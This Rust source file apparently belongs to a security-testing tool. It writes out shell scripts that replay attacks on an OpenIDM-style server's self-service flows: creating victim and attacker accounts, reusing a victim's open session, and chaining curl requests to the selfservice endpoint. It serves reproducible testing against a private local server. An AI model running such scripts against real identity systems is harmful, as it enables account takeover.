//! An attack as a script for a shell.

use std::fmt::Write as _;

use serde_json::Value;

use super::Attack;

/// The script. It makes the account it is after, and so runs against a server that nobody else uses.
pub(super) fn of(process: &str, attack: &Attack) -> String {
    let mut out = String::new();
    let quoted = |value: &Value| value.to_string().replace('\'', "'\\''");
    let _ = writeln!(
        out,
        "#!/bin/sh\n# {} of {}, with {}. For a server that nobody else uses:\n#   vestibule serve --project DIR --data \"$(mktemp -d)\" --listen 127.0.0.1:8080\n# Wants curl and jq, and the administrator's name and password in ADMIN and ADMIN_PASSWORD.\nset -eu\nBASE=${{1:-http://127.0.0.1:8080/openidm}}",
        attack.goal, attack.shape, attack.has
    );
    for (id, person) in [("victim", &attack.victim), ("mallory", &attack.own)] {
        if id == "mallory" || attack.shape != "nobody" {
            let _ = writeln!(
                out,
                "curl -sf -o /dev/null -X PUT \"$BASE/managed/user/{id}\" -u \"$ADMIN:$ADMIN_PASSWORD\" -H 'If-None-Match: *' -H 'Content-Type: application/json' \\\n  -d '{}'",
                quoted(person)
            );
        }
    }
    let name = attack.victim.get("userName").and_then(Value::as_str).unwrap_or_default();
    let password = attack.victim.get("password").and_then(Value::as_str).unwrap_or_default();
    let who = if attack.signed_in {
        let _ = writeln!(
            out,
            "# The session that somebody left open.\nJAR=$(mktemp)\ncurl -sf -o /dev/null -c \"$JAR\" -X POST \"$BASE/authentication?_action=login\" -H 'X-OpenIDM-Username: {name}' -H 'X-OpenIDM-Password: {password}'"
        );
        "-b \"$JAR\"".to_owned()
    } else {
        "-H 'X-OpenIDM-Username: anonymous' -H 'X-OpenIDM-Password: anonymous'".to_owned()
    };
    let again = if attack.reauthenticated { format!(" -H 'X-OpenIDM-Reauth-Password: {password}'") } else { String::new() };
    let _ = writeln!(
        out,
        "submit() {{ curl -s -X POST \"$BASE/selfservice/{process}?_action=submitRequirements\" {who}{again} -H 'X-Requested-With: curl' -H 'Content-Type: application/json' -d \"$1\"; }}"
    );
    for (number, step) in attack.steps.iter().enumerate() {
        let number = number + 1;
        let asks = step.input.to_string().contains("{code}");
        if asks {
            let _ = writeln!(out, "printf 'the code of the last mail: ' >&2; read -r CODE");
        }
        let token = step.token.map(|token| format!(" --arg token \"$TOKEN{token}\"")).unwrap_or_default();
        let member = if step.token.is_some() { "token: $token, " } else { "" };
        let code = if asks { " --arg code \"$CODE\"" } else { "" };
        let input = quoted(&step.input).replace("\"{code}\"", "$code");
        let _ = writeln!(
            out,
            "# {number}. {}\nANSWER=$(submit \"$(jq -nc{token}{code} '{{{member}input: {input}}}')\")\nprintf '%s\\n' \"$ANSWER\"\nTOKEN{number}=$(printf '%s' \"$ANSWER\" | jq -r '.token // empty')",
            step.answer
        );
    }
    out
}
